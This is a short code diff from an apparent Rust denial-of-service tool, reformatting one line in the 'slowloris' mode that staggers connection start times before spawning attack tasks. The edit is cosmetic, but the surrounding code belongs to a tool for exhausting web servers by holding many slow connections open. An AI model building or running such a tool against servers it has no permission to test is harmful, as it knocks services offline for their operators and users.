@@ -153,7 +153,9 @@ pub async fn main(args: AttackArgs) -> anyhow::Result<()> {
         match args.mode.as_str() {
             "slowloris" => {
                 // Spread the first bytes over one interval.
-                let delay = Duration::from_millis(args.interval_ms * i as u64 / args.connections.max(1) as u64);
+                let delay = Duration::from_millis(
+                    args.interval_ms * i as u64 / args.connections.max(1) as u64,
+                );
                 tasks.spawn(async move {
                     tokio::time::sleep(delay).await;
                     slowloris(a, end, c).await
